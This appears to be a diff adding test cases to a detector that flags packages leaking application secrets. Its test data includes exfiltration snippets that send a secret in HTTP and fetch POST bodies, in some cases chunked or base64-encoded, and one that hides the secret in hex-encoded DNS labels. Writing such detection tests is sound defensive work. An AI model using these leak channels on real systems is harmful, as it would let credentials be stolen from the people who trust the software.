@@ -94,6 +94,33 @@ describe('a package sends a secret that the application has handed it', () => {
     await assertSeen(to(`String(url('/?id=' + seed))`), 'the query id');
   });
 
+  it('in a body of http and of fetch, also among other things and encoded', async () => {
+    const post = (body: string, more = '') => ({
+      send: `const body = ${body};
+        const request = http.request(url('/'), { method: 'POST' }, (response) => response.resume().on('end', end));
+        ${more || 'request.end(body);'}`,
+    });
+    const json = `JSON.stringify({ id: 7, note: seed })`;
+    await assertSeen(post(json), 'the field note of the body');
+    await assertSeen(
+      post(json, 'request.write(body.slice(0, 9)); request.end(body.slice(9));'),
+      'the field note of the body',
+    );
+    await assertSeen(post(`Buffer.from(${json}).toString('base64')`), 'the field note of the body');
+    const fetched = (body: string) => ({
+      send: `fetch(url('/'), { method: 'POST', body: ${body} }).then(() => end(), end);`,
+    });
+    await assertSeen(fetched(json), 'the field note of the body');
+    await assertSeen(fetched(`new URLSearchParams({ note: seed })`), 'the field note of the body');
+    await assertSeen(fetched(`Buffer.from('x ' + seed)`), 'the body');
+  });
+
+  it('in the labels of a name', () =>
+    assertSeen(
+      { send: `require('node:dns').resolveTxt(hex.slice(0, 40) + '.0.labels.invalid', () => end());` },
+      'a DNS label',
+    ));
+
   it('whichever way the application has read it', async () => {
     const send = `get('/', { 'x-trace': seed });`;
     const fs = `const fs = require('node:fs');`;
@@ -130,6 +157,12 @@ describe('a package sends a secret that the application has handed it', () => {
     ]) {
       await assertSeen({ send, config, env, ends }, 'the header x-trace');
     }
+    for (const send of [
+      `http.request(url('/'), { method: 'POST' }).on('error', end).end(seed);`,
+      `fetch(url('/'), { method: 'POST', body: seed }).then(() => end(), end);`,
+    ]) {
+      await assertSeen({ send, config, env, ends }, 'the body');
+    }
   });
 });
 
@@ -140,6 +173,13 @@ describe('nothing is said', () => {
     }
     await assertQuiet({ send: `get('/?apikey=' + seed);` });
   });
+
+  it('of a field of a body that is made for a secret', () =>
+    assertQuiet({
+      send: `fetch(url('/'), { method: 'POST', body: JSON.stringify({ user: 'bob', password: seed }) }).then(() => end(), end);`,
+      read: 'const seed = process.env.SHOP_PASSWORD;',
+      env: { SHOP_PASSWORD: SEED },
+    }));
 
   it('of what is no secret, or too short to be told from others', () =>
     assertQuiet({
